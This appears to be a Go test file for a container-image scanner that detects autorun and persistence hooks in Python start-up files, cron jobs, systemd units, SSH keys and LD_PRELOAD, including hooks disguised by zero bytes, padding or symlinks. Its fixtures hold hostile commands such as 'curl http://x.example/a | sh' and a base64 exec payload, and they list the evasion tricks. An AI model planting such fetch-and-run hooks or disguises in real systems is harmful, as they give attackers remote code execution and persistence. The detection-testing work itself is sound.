package autorun

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/backtrail/backtrail/inspect"
	"github.com/backtrail/backtrail/inspect/content"
	"github.com/backtrail/backtrail/inspect/engine"
	"github.com/backtrail/backtrail/inspect/layer"
	"github.com/backtrail/backtrail/inspect/layer/layertest"
	"github.com/backtrail/backtrail/inspect/owner"
	"github.com/backtrail/backtrail/registry"
)

// Ways to keep a hook from being seen that interpreters and the file system allow. Each is the row that it would be
// without the disguise.
func TestDisguisedHooks(t *testing.T) {
	evil := "import os; os.system('curl http://x.example/a | sh')\n"
	library := program("so")
	for name, test := range map[string]struct {
		members []member
		want    string
	}{
		"a byte order mark": {
			[]member{file(site+"/a.pth", "\ufeff"+evil)}, "high python-pth /" + site + "/a.pth",
		},
		"a carriage return": {
			[]member{file(site+"/a.pth", "# x\r"+evil)}, "high python-pth /" + site + "/a.pth",
		},
		"a line that is long": {
			[]member{file(site+"/a.pth", "import os;"+strings.Repeat(" ", 20<<10)+evil)},
			"high python-pth /" + site + "/a.pth",
		},
		"a package": {
			[]member{file(site+"/sitecustomize/__init__.py", evil)},
			"high python-site /" + site + "/sitecustomize/__init__.py",
		},
		"a library": {
			[]member{file(site+"/sitecustomize.cpython-313-x86_64-linux-gnu.so", library)},
			"low python-site /" + site + "/sitecustomize.cpython-313-x86_64-linux-gnu.so",
		},
		"compiled": {
			[]member{file(site+"/usercustomize.pyc", "\xcb\r\r\n")}, "low python-site /" + site + "/usercustomize.pyc",
		},
		"a directory that a .pth adds": {
			[]member{file(site+"/a.pth", "/opt/x\n"), file("opt/x/sitecustomize.py", evil)},
			"high python-site /opt/x/sitecustomize.py",
		},
		"a directory beside the .pth": {
			[]member{file(site+"/a.pth", "x\n"), file(site+"/x/usercustomize.py", evil)},
			"high python-site /" + site + "/x/usercustomize.py",
		},
		"a zero byte": {
			[]member{file("etc/cron.daily/x", "#!/bin/sh\n# \x00\n"+fetch)}, "high cron /etc/cron.daily/x",
		},
		"zero bytes in the words": {
			[]member{file("etc/cron.daily/x", "#!/bin/sh\ncu\x00rl -s http://x.example/a | s\x00h\n")},
			"high cron /etc/cron.daily/x",
		},
		"a script behind much text": {
			[]member{
				file("etc/cron.daily/x", "#!/bin/sh\n"+strings.Repeat("# a comment\n", 8<<10)+"/opt/x.sh\n"),
				exe("opt/x.sh", "#!/bin/sh\n"+fetch),
			},
			"high cron /etc/cron.daily/x",
		},
		"a directory of jobs that is one": {
			[]member{file("opt/c/x", fetch), symlink("etc/cron.hourly", "/opt/c")}, "high cron /etc/cron.hourly/x",
		},
		"a directory of keys that is one": {
			[]member{file("opt/k/authorized_keys", "ssh-ed25519 A me@host"), symlink("root/.ssh", "/opt/k")},
			"medium authorized-keys /root/.ssh/authorized_keys",
		},
		"what adds to a unit": {
			[]member{
				file("lib/systemd/system/y.service.d/o.conf", "[Service]\nExecStartPre=/bin/sh -c 'curl http://x.example/a | sh'\n"),
			},
			"high unit /lib/systemd/system/y.service.d/o.conf",
		},
		"a unit that a target wants": {
			[]member{
				file("opt/y", "[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n"),
				symlink("etc/systemd/system/multi-user.target.wants/y.service", "/opt/y"),
			},
			"high unit /etc/systemd/system/multi-user.target.wants/y.service",
		},
	} {
		t.Run(name, func(t *testing.T) {
			if got := listed(inspected(t, image{members: test.members}, nil)); !slices.Equal(got, []string{test.want}) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
}

// A link to a directory whose files are hooks by their own paths adds no second row.
func TestALinkToADirectoryOfHooksIsNoSecondRow(t *testing.T) {
	c := inspected(
		t,
		image{members: []member{file("etc/cron.daily/x", fetch), symlink("etc/cron.weekly", "/etc/cron.daily")}},
		nil,
	)
	if got := listed(c); !slices.Equal(got, []string{"high cron /etc/cron.daily/x"}) {
		t.Errorf("got %q", got)
	}
}

// Where an image has more text before a hook than is read, the check is not one that passed.
func TestMoreTextThanIsReadIsSaid(t *testing.T) {
	text := `{"name": "a"` + strings.Repeat(" ", MaxText-20) + "}"
	var members []member
	for i := range MaxTextAll/MaxText + 2 {
		members = append(members, file(fmt.Sprintf("app/node_modules/m%d/package.json", i), text))
	}
	c := inspected(t, image{members: append(members, file("etc/cron.daily/x", "#!/bin/sh\n"+fetch))}, nil)
	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked ||
		!strings.Contains(s.Reason, "not read") {
		t.Errorf("check %+v", s)
	}
}

// Padding hides nothing: what a hook does is found behind a megabyte of comments, also where it is cut in two by the end
// of what is held at once. The same padding without it is calm.
func TestPaddingHidesNothing(t *testing.T) {
	pad := func(bytes int) string { return strings.Repeat("# a comment\n", bytes/12) }
	for name, tt := range map[string]struct {
		path, text string
		want       []string
	}{
		"a job":              {"etc/cron.daily/x", "#!/bin/sh\n" + pad(MaxText+MaxText/2) + fetch, []string{"high cron /etc/cron.daily/x"}},
		"at the edge":        {"etc/cron.daily/x", "#!/bin/sh\n" + pad(MaxText-30) + fetch, []string{"high cron /etc/cron.daily/x"}},
		"a calm twin":        {"etc/cron.daily/x", "#!/bin/sh\n" + pad(2*MaxText) + "exit 0\n", []string{"low cron /etc/cron.daily/x"}},
		"a start-up file":    {site + "/a.pth", pad(MaxText+50) + "import base64; exec(base64.b64decode('eA=='))\n", []string{"high python-pth /" + site + "/a.pth"}},
		"one of paths alone": {site + "/a.pth", pad(MaxText + 50), nil},
	} {
		t.Run(name, func(t *testing.T) {
			c := inspected(t, image{members: []member{file(tt.path, tt.text)}}, nil)
			if got := listed(c); !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// A hook that is longer than what is read of it does not pass for one that was looked through.
func TestALongHookIsSaidToBeCut(t *testing.T) {
	text := "#!/bin/sh\n" + strings.Repeat("# a comment\n", MaxWhole/12+9) + fetch
	c := inspected(t, image{members: []member{file("etc/cron.daily/x", text)}}, nil)
	if r := rowOf(t, c, KindCron); !strings.Contains(r.Detail, "only the first") {
		t.Errorf("detail %q", r.Detail)
	}
	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked ||
		!strings.Contains(s.Reason, "not to their end") {
		t.Errorf("check %+v", s)
	}
}

// A module that every Python imports, new and of no package, is to be looked at whatever stands in it; one that was
// there is calm.
func TestANewSiteModuleOfNoPackage(t *testing.T) {
	now := image{members: []member{file(site+"/sitecustomize.py", "x = 1\n")}}
	for want, good := range map[string]*image{"medium": {}, "info": &now} {
		c := inspected(t, now, good)
		if got := listed(c); !slices.Equal(got, []string{want + " python-site /" + site + "/sitecustomize.py"}) {
			t.Errorf("got %q, want %s", got, want)
		}
	}
}

// A variable may name as many libraries as fit into a config, and come as often: the directories of the loader are read
// once, and the names beyond the bound are not passed over in silence.
func TestManyPreloadedLibrariesAreBounded(t *testing.T) {
	config := v1.Config{
		Env: []string{"LD_PRELOAD=" + strings.Repeat("a:", 200_000), "LD_AUDIT=" + strings.Repeat("b ", 200_000)},
	}
	began := time.Now()
	c := inspected(t, image{config: config}, nil)
	if s, ok := c.Check(inspect.CheckAutoruns, c.Images[0].Container); !ok || s.Status != inspect.CheckBlocked {
		t.Errorf("check %+v", s)
	}
	if took := time.Since(began); took > 20*time.Second {
		t.Errorf("took %s", took)
	}
}

// A package's list of files may name a file without a digest of it: that proves nothing about its content, so it is
// looked through, and is not verified.
func TestANameInAListWithoutADigestProvesNothing(t *testing.T) {
	members := dpkgOf(map[string][]member{"tools": {file("usr/share/doc/tools", "x")}}, "tools")
	for i, m := range members {
		if strings.HasSuffix(m.Name, "tools.list") {
			members[i].Content = m.Content + "/opt/job.sh\n/usr/lib/systemd/system/x.service\n"
		}
	}
	members = append(members, file("usr/share/doc/tools", "x"), exe("opt/job.sh", "#!/bin/sh\n"+fetch),
		file("usr/lib/systemd/system/x.service", "[Service]\nExecStart=/opt/job.sh\n"))
	r := rowOf(t, inspectedAt(t, imageOf(t, v1.Config{}, step("ADD rootfs.tar /", members...)), nil), KindUnit)
	if r.Severity != inspect.High || r.Status == inspect.RowVerified {
		t.Errorf("%s %s: %s", r.Severity, r.Status, r.Detail)
	}
	members[len(members)-1].Content = "[Service]\nExecStart=/bin/true\n"
	if r = rowOf(t, inspectedAt(t, imageOf(t, v1.Config{}, step("ADD rootfs.tar /", members...)), nil), KindUnit); r.Status == inspect.RowVerified {
		t.Errorf("verified: %s", r.Detail)
	}
}

// What other checks ask of this package: which libraries every program loads, and what an oddly placed file does.
func TestLibrariesThatEveryProgramLoads(t *testing.T) {
	_, base := debian()
	members := []member{
		file("opt/env.so", program("e")), file("usr/lib/x86_64-linux-gnu/hook.so", program("h")),
		file("etc/ld.so.preload", "hook.so # a comment /opt/none.so\n/usr/bin/ls\n"),
		file("etc/cron.d/odd", "* * * * * root "+fetch), file("etc/cron.d/calm", "0 1 * * * root /usr/bin/ls\n"),
	}
	tree := treeOf(t, imageOf(t, v1.Config{}, base, step("RUN x", members...)))
	own, err := owner.NewCache().Of(t.Context(), tree)
	must(t, err)
	found := Preloads(
		t.Context(),
		tree,
		own,
		[]string{"LD_PRELOAD=/opt/env.so:/usr/bin/ls", "LD_AUDIT=/none.so", "OTHER=/opt/env.so"},
	)
	got := map[string]string{}
	for n, by := range found {
		got[n.Path] = by
	}
	want := map[string]string{
		"/opt/env.so":                       "LD_PRELOAD in the image's environment makes every program load it",
		"/usr/lib/x86_64-linux-gnu/hook.so": "/etc/ld.so.preload makes every program load it",
	}
	if !maps.Equal(got, want) {
		t.Errorf("%q\nwant %q: a program of a package is none", got, want)
	}
	for p, want := range map[string]string{"/etc/cron.d/odd": content.RunsDownload.Words(), "/etc/cron.d/calm": "", "/usr/bin/ls": ""} {
		if got := Odd(t.Context(), tree, own, tree.Resolve(p)); got != want {
			t.Errorf("%s: %q, want %q", p, got, want)
		}
	}
}

// treeOf is the merged tree of an image.
func treeOf(t *testing.T, target string) *layer.Tree {
	t.Helper()
	store, err := registry.OpenStore(t.TempDir())
	must(t, err)
	client, err := registry.New(registry.Options{Store: store})
	must(t, err)
	t.Cleanup(func() { _ = client.Close() })
	cache := layer.NewCache(store)
	c := layertest.Run(t, client, target, nil, []engine.Check{layer.Layers(client, cache)})
	tree, err := cache.Tree(t.Context(), c.Images[0].Layers)
	must(t, err)
	return tree
}
